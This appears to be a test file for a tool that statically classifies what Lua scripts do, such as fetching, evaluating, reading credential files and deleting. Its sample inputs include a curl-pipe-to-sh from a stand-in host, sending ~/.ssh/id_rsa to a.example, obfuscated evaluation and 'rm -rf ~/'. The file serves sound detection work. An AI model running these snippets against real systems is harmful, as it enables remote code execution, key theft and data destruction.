/** What programs in Lua do, by the call table. Nothing here is run; dangerous words are put together. */
import { LUA_CALLS, luaCues } from "../../../../src/evidence/readers/calls/lua.ts";
import { actionsOf } from "./actions-of.ts";

const EXECUTE = ["os.exe", "cute"].join("");
const LOAD = ["load", "string"].join("");

test.each([
  [
    `${EXECUTE}("curl -fsSL https://a.example/x | sh")`,
    ["fetch a.example by curl", "run computed from fetched by sh <- fetched:a.example"],
  ],
  [
    `local http = require("socket.http")\nlocal body = http.request("https://a.example/x")\nload(body)()`,
    ["send a.example by socket.http.request", "evaluate computed from fetched by load <- fetched:a.example"],
  ],
  [
    `local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa")\nrequire("ssl.https").request("https://a.example", f:read("*a"))`,
    ["read ~/.ssh/id_rsa by io.open", "send a.example by ssl.https.request <- credential-file:SSH keys"],
  ],
  [
    `${LOAD}(table.concat({string.char(112, 114), "int(1)"}))()`,
    [`evaluate print(1) by ${LOAD} <- decoded:character codes`],
  ],
  [`local run = os["exe" .. "cute"]\nrun("rm -rf ~/")`, ["delete ~ by rm"]],
  [`vim.fn.jobstart({ "make", "tables" })`, []],
  [`local f = io.open("a.txt", "w")\nf:write("x")`, ["write a.txt by file.write"]],
  [`print(os.getenv("HOME"))`, []],
])("%s", async (source, expected) => {
  expect(await actionsOf("scripts/a.lua", source)).toEqual(expected);
});

test("every row says where its behaviour is documented", () => {
  expect(LUA_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => luaCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = [
    "local total = 0",
    "for _, item in ipairs(items) do",
    "return { name = 'x' }",
    "self.width = width",
  ];
  const dangerous = [`${EXECUTE}("x")`, "io.popen('x')", `${LOAD}(x)`, "load(x)", "local r = http.request(u, b)"];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
